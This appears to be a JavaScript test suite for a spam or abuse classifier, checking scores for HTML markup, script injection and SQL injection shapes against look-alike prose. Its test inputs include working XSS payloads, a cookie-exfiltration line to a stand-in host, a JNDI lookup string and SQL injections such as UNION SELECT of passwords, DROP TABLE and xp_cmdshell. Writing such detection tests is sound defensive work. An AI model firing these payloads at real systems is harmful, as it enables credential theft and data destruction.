// Markup and injection shapes: HTML tags and link markup, script and SQL injection attempts. A
// shape is recognised by a scanner, never by a regular expression over the whole text, and prose
// that merely resembles one ("x<y", "it's -- fine", "union members select a chair") stays at 0.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ruleScore } from '../helpers/classifier-text.js';

test('HTML: 0.2 per known tag, 0.8 per link markup (<a href>, [url], [link]), at most 2', () => {
  assert.equal(ruleScore('HTML', 'if a<b and c>d then 3<4, <3 and <<< arrows >>>'), 0.2); // "<b and c>" is tag-shaped
  assert.equal(ruleScore('HTML', 'I <b>really</b> like it'), 0.4);
  assert.equal(ruleScore('HTML', '<a href="http://spam.example">cheap</a>'), 1.2); // two tags and a link
  assert.equal(ruleScore('HTML', '[url=http://spam.example]cheap[/url] [link=http://x.example]y[/link] [URL]http://z.example[/URL]'), 2);
  assert.equal(ruleScore('HTML', 'generic <T> types, List<String> and <customtag>'), 0);
  assert.equal(ruleScore('HTML', '<A HREF=http://x.example>x</A>'), 1.2);
});

test('SCRIPT_INJECTION: 3 for one kind of shape, 4 for two or more', () => {
  assert.equal(ruleScore('SCRIPT_INJECTION', 'My JavaScript: it breaks on script tags, frames and onload events'), 0);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<script>alert(1)</script>'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<img src=x onerror=alert(1)>'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<svg/onload=alert(1)>'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<body onLoad = "go()">'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<a href="javascript:alert(1)">x</a>'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<iframe src="//evil.example"></iframe>'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', 'data:text/html;base64,PHNjcmlwdD4='), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', 'new Image().src="//x.example/?c="+document.cookie'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '${jndi:ldap://evil.example/a}'), 3);
  assert.equal(ruleScore('SCRIPT_INJECTION', '<script>document.cookie</script><iframe onload=x()>'), 4);
  // Handlers only inside a tag, and only with '='.
  assert.equal(ruleScore('SCRIPT_INJECTION', 'call onload=init() from your page; <div onclick>'), 0);
});

test("SQL_INJECTION: quote tautologies and comments, UNION SELECT, stacked statements, time and schema probes", () => {
  assert.equal(ruleScore('SQL_INJECTION', "admin' OR 1=1"), 3);
  assert.equal(ruleScore('SQL_INJECTION', "x' or 'a'='a"), 3);
  assert.equal(ruleScore('SQL_INJECTION', '" OR ""=""'), 0); // empty operands are no tautology shape
  assert.equal(ruleScore('SQL_INJECTION', "1' AND 1=1 UNION ALL SELECT username, password FROM users--"), 4);
  assert.equal(ruleScore('SQL_INJECTION', "admin'--"), 3);
  assert.equal(ruleScore('SQL_INJECTION', "admin'#"), 3);
  assert.equal(ruleScore('SQL_INJECTION', "1'/**/union/**/select 1,2"), 4);
  assert.equal(ruleScore('SQL_INJECTION', '1; DROP TABLE users'), 3);
  assert.equal(ruleScore('SQL_INJECTION', "1;delete from accounts"), 3);
  assert.equal(ruleScore('SQL_INJECTION', "'; EXEC xp_cmdshell('dir')"), 4); // stacked EXEC and the xp_cmdshell probe
  assert.equal(ruleScore('SQL_INJECTION', '1 AND SLEEP(5)'), 3);
  assert.equal(ruleScore('SQL_INJECTION', "x'||sleep(5)"), 3);
  assert.equal(ruleScore('SQL_INJECTION', 'id=1 or BENCHMARK(5000000,MD5(1))'), 3);
  assert.equal(ruleScore('SQL_INJECTION', '(SELECT SLEEP(5))'), 3);
  assert.equal(ruleScore('SQL_INJECTION', "1; WAITFOR DELAY '0:0:5'"), 3);
  assert.equal(ruleScore('SQL_INJECTION', 'select * from information_schema.tables'), 3);
  assert.equal(ruleScore('SQL_INJECTION', 'select @@version'), 3);
});

test('SQL_INJECTION: prose that looks a little like SQL scores 0', () => {
  for (const prose of [
    "It's fine -- really. He said 'no' -- then left.",
    "The 'or' operator and the \"and\" one; I'd like a table for two.",
    'The union members select a chair; drop the table idea. Delete from the list; insert into the form.',
    "I need sleep (5 hours) and a benchmark of the new version. Don't wait for delay.",
    'for (const id of ids) {\n  await client.get(id);\n  await sleep(250);\n}\nthen time.sleep(1) and Thread.sleep(100)',
    'Information about the schema? xp is old; exec summary attached.',
    "rock'n'roll, O'Brien's and 'quoted' words",
    '`-- redhat tree output, print "# comment"',
  ]) assert.equal(ruleScore('SQL_INJECTION', prose), 0, prose);
});
